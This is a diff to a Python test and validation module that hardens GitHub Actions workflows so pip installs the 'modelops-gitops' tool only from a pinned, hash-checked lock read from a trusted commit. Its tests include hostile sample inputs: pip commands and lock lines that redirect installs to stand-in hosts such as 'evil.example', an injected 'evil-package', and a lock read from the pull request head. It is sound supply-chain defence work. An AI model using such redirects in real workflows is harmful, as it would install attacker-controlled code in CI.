@@ -104,14 +104,73 @@ def python_problems(step: dict[str, Any], env: dict[str, str]) -> list[str]:
     return out
 
 
+LOCK_FETCH = 'git -C "$GITHUB_WORKSPACE" show "$LOCK_REV:.github/modelops-gitops.lock" > modelops-gitops.lock'
+LOCK_REVS = {"${{ github.event.pull_request.base.sha }}", "HEAD"}
+
+
+def _lock_install_problems(args: list[str], step: dict[str, Any]) -> list[str]:
+    """`pip install --no-deps -r modelops-gitops.lock`: the lock (checked by lock_problems),
+    read from git at the base commit or HEAD by the same step, outside the checkout."""
+    out = []
+    if args.count("-r") != 1 or args[args.index("-r") + 1 :] != ["modelops-gitops.lock"]:
+        out.append("pip install -r: only the lock, as the last argument")
+    if "--no-deps" not in args:
+        out.append("pip install -r modelops-gitops.lock: add --no-deps (the tool alone)")
+    if LOCK_FETCH not in str(step.get("run", "")).splitlines():
+        out.append("the lock must be read from git in the same step: " + LOCK_FETCH)
+    if (step.get("env") or {}).get("LOCK_REV") not in LOCK_REVS:
+        out.append("LOCK_REV: the base commit or HEAD, never the pull request's head")
+    return out
+
+
+LOCK_LINE = re.compile(
+    r"^modelops-gitops\[gates,github\]"
+    r"(==[0-9][0-9A-Za-z.+!-]*"
+    r"| @ git\+https://[A-Za-z0-9.-]+/[A-Za-z0-9._~/-]+@[0-9a-f]{40}"
+    r"| @ (https://[A-Za-z0-9.-]+/|file://\$\{GITHUB_WORKSPACE\}/\.github/modelops-gitops/)"
+    r"[A-Za-z0-9._~%/+-]+\.whl --hash=sha256:[0-9a-f]{64})$"
+)
+
+
+def lock_problems(text: str) -> list[str]:
+    """A lock names one requirement: a pinned release, a git commit, or a wheel with its
+    hash (then --require-hashes); no other option (an index URL, find-links, ...)."""
+    lines = [line for line in text.splitlines() if line and not line.startswith("#")]
+    options = [line for line in lines if line.startswith("-")]
+    requirements = [line for line in lines if not line.startswith("-")]
+    out = [
+        f"lock option {o}: not allowed"
+        for o in options
+        if o not in {"--require-hashes", "--only-binary=:all:"}
+    ]
+    if len(requirements) != 1 or not LOCK_LINE.match(requirements[0]):
+        out.append(f"lock: expected one pinned modelops-gitops requirement, got {requirements}")
+    elif "--hash=" in requirements[0] and "--require-hashes" not in options:
+        out.append("lock: a wheel's hash must come with --require-hashes")
+    return out
+
+
 def _install_problems(args: list[str], step: dict[str, Any]) -> list[str]:
     out = []
+    if "-r" in args:
+        out += _lock_install_problems(args, step)
+        args = [a for a in args if a not in {"-r", "modelops-gitops.lock", "--no-deps"}]
+        if step.get("working-directory") != OUTSIDE_CHECKOUT:
+            out.append(
+                "pip install runs inside the checkout: set working-directory: ${{ runner.temp }}"
+            )
+        return out + [p for p in _option_problems(args) if "only pinned" in p]
     if step.get("working-directory") != OUTSIDE_CHECKOUT:
         out.append(
             "pip install runs inside the checkout: set working-directory: ${{ runner.temp }}"
         )
     if "--only-binary=:all:" not in args:
         out.append("pip install may build a source distribution: add --only-binary=:all:")
+    return out + _option_problems(args)
+
+
+def _option_problems(args: list[str]) -> list[str]:
+    out = []
     for arg in args:
         if arg.startswith("-"):
             if arg.split("=")[0] in {
@@ -207,7 +266,12 @@ def _step(workflow: Workflow, needle: str) -> dict[str, Any]:
         ("pip install modelops-gitops==0.1.0", "run pip as"),
         ("python -I -m pip install --only-binary=:all: .", "not a pinned release"),
         ("python -I -m pip install --only-binary=:all: -e .", "only pinned releases"),
-        ("python -I -m pip install --only-binary=:all: -r requirements.txt", "only pinned"),
+        ("python -I -m pip install --only-binary=:all: -r requirements.txt", "only the lock"),
+        ("python -I -m pip install -r modelops-gitops.lock", "add --no-deps"),
+        (
+            "python -I -m pip install --no-deps --index-url https://evil -r modelops-gitops.lock",
+            "only pinned",
+        ),
         ("python -I -m pip install modelops-gitops==0.1.0", "--only-binary"),
         ("python -I -m pip install --only-binary=:all: modelops-gitops", "not a pinned"),
         ("cd x && python tool.py", "python without -I"),
@@ -290,3 +354,61 @@ def test_the_project_root_has_no_code_a_workflow_would_run(tmp_path: Path) -> No
     assert "PWNED" in plain.stdout  # the attack works without -I
     assert "PWNED" not in isolated.stdout
     assert isolated.stdout.startswith("pip ")
+
+
+# -- the lock the workflows install from (init --install-from) ------------------------------
+
+
+def _locks() -> dict[str, str]:
+    from modelops_gitops import __version__
+    from modelops_gitops.repo.install_source import parse_source
+
+    wheel = f"modelops_gitops-{__version__}-py3-none-any.whl"
+    sources = {
+        "index": parse_source("index", __version__),
+        "git": parse_source(f"git+https://github.com/acme/modelops-gitops@{'a' * 40}", __version__),
+        "wheel": parse_source(f"dist/{wheel}", __version__, b"wheel bytes"),
+        "url": parse_source(f"https://example.com/w/{wheel}#sha256={'b' * 64}", __version__),
+    }
+    return {kind: source.lock() for kind, source in sources.items()}
+
+
+@pytest.mark.parametrize("kind", ["index", "git", "wheel", "url"])
+def test_every_lock_init_can_write_passes_the_lock_check(kind: str) -> None:
+    assert lock_problems(_locks()[kind]) == []
+
+
+def test_the_project_and_init_write_the_same_lock() -> None:
+    scaffolded = scaffold_files(owner="acme", name="models")[".github/modelops-gitops.lock"]
+    project = (PROJECT_ROOT / ".github" / "modelops-gitops.lock").read_bytes()
+    assert project == scaffolded
+    assert lock_problems(project.decode()) == []
+
+
+@pytest.mark.parametrize(
+    ("edit", "expected"),
+    [
+        (lambda t: t + "--index-url https://evil.example/simple\n", "not allowed"),
+        (lambda t: t + "--extra-index-url https://evil.example/simple\n", "not allowed"),
+        (lambda t: t + "--find-links https://evil.example/\n", "not allowed"),
+        (lambda t: t.replace("==0.1.0", ""), "one pinned"),
+        (lambda t: t + "evil-package==1.0\n", "one pinned"),
+        (lambda t: t.replace("==0.1.0", " @ git+https://github.com/acme/x@main"), "one pinned"),
+    ],
+)
+def test_the_lock_check_catches_a_lock_that_could_install_something_else(
+    edit: Any, expected: str
+) -> None:
+    text = edit(_locks()["index"])
+    assert any(expected in p for p in lock_problems(text)), lock_problems(text)
+
+
+def test_the_lock_check_wants_hashes_required_with_a_wheel() -> None:
+    text = _locks()["wheel"].replace("--require-hashes\n", "")
+    assert "lock: a wheel's hash must come with --require-hashes" in lock_problems(text)
+
+
+def test_the_check_catches_a_lock_read_from_the_pull_request() -> None:
+    workflow = _plan()
+    _step(workflow, "pip install")["env"]["LOCK_REV"] = "${{ github.event.pull_request.head.sha }}"
+    assert any("never the pull request's head" in p for p in problems(workflow))
